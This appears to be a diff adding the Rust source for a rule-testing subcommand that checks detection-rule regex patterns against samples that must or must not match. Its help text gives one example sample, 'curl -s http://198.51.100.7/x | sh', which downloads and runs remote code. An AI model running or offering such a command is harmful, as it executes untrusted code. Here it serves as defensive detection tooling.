@@ -1,0 +1,110 @@
+//! `rulesyncd test`: the patterns of rules are tried on samples.
+
+mod engine;
+mod files;
+mod python;
+mod report;
+
+use std::path::{Path, PathBuf};
+
+use clap::Args;
+
+use super::{Failure, Outcome};
+use crate::cli::print;
+use crate::rule::{self, FieldPattern, Limits, Sample};
+use crate::rulefile;
+use engine::{Engine, SearchError};
+use files::{Targets, Test};
+use report::{Report, Verdict};
+
+/// Try the patterns of rules on samples that they must match and must not match
+#[derive(Debug, Args)]
+#[command(
+    after_help = "Example: rulesyncd test rules/\n\nThe samples of rules/NAME.yaml are in rules/NAME.test.yaml:\n\n  must_match:\n  - curl -s http://198.51.100.7/x | sh\n  must_not_match:\n  - curl -O http://198.51.100.7/x\n\nA sample matches if one of the rule's patterns is found in it, as by re.search. Where a rule has patterns for several fields, each sample names its own: `- url: http://198.51.100.7/x`.\n\nExit codes: 0 every sample is as expected, 1 one is not or a file is invalid, 2 usage, 3 a path could not be read, there is no test, or a pattern needs Python."
+)]
+pub struct TestArgs {
+    /// Directories of rules, rule files, or test files
+    #[arg(required = true)]
+    paths: Vec<PathBuf>,
+    /// The Python interpreter whose `re` tries the patterns; where none is named, python3, and without it the
+    /// Rust crate fancy-regex
+    #[arg(long, value_name = "PROGRAM")]
+    python: Option<PathBuf>,
+}
+
+pub(crate) fn run(args: TestArgs) -> Outcome {
+    let targets = Targets::collect(&args.paths).map_err(Failure::Environment)?;
+    let mut engine = Engine::choose(args.python).map_err(Failure::Environment)?;
+    let mut report = Report::default();
+    for test in &targets.tests {
+        run_one(test, &mut engine, &mut report)?;
+    }
+    print(&report.finish(targets.rules, &engine))?;
+    if report.failed > 0 || report.invalid > 0 {
+        return Err(Failure::Wrong);
+    }
+    if report.untried > 0 {
+        let reason = "not every sample was tried: name a Python interpreter with --python";
+        return Err(Failure::Environment(anyhow::anyhow!(reason)));
+    }
+    Ok(())
+}
+
+/// Tries the samples of one test file on its rule.
+fn run_one(test: &Test, engine: &mut Engine, report: &mut Report) -> Outcome {
+    let Some(rule_path) = &test.rule else {
+        report.reject(
+            &test.path,
+            "there is no rule for it: expected a file of its name without `.test` beside it",
+        );
+        return Ok(());
+    };
+    let text = read(rule_path)?;
+    let Ok(rule) = rule::parse(&text, &Limits::default()) else {
+        let path = rule_path.display();
+        report.reject(rule_path, &format!("the rule is invalid: `rulesyncd check {path}` says why"));
+        return Ok(());
+    };
+    let patterns = FieldPattern::all(&rule.definition.match_spec);
+    if patterns.is_empty() {
+        report.reject(&test.path, "the rule has no `pattern` that a sample could be tried on");
+        return Ok(());
+    }
+    let text = read(&test.path)?;
+    let samples = match rule::samples(&text, &Limits::default(), &patterns) {
+        Ok(samples) => samples,
+        Err(findings) => {
+            report.reject_with(&test.path, &text, &findings);
+            return Ok(());
+        }
+    };
+    report.tested += 1;
+    for sample in &samples {
+        let verdict = judge(sample, &patterns, engine)?;
+        report.add(&test.path, sample, verdict);
+    }
+    Ok(())
+}
+
+/// What the first pattern for the sample's field finds in it that finds anything.
+fn judge<'p>(
+    sample: &Sample,
+    patterns: &'p [FieldPattern],
+    engine: &mut Engine,
+) -> Result<Verdict<'p>, Failure> {
+    for pattern in patterns.iter().filter(|pattern| pattern.field == sample.field) {
+        match engine.search(&pattern.pattern, &sample.text) {
+            Ok(None) => {}
+            Ok(Some(found)) => return Ok(Verdict::Found { pattern, found }),
+            Err(SearchError::Wrong(reason)) => return Ok(Verdict::Wrong { pattern, reason }),
+            Err(SearchError::NeedsPython(reason)) => return Ok(Verdict::Untried { pattern, reason }),
+            Err(SearchError::Engine(error)) => return Err(Failure::Environment(error)),
+        }
+    }
+    Ok(Verdict::NotFound)
+}
+
+fn read(path: &Path) -> Result<Vec<u8>, Failure> {
+    let text = rulefile::read(path, Limits::default().size);
+    text.map_err(|error| Failure::Environment(anyhow::anyhow!("{}: {error}", path.display())))
+}
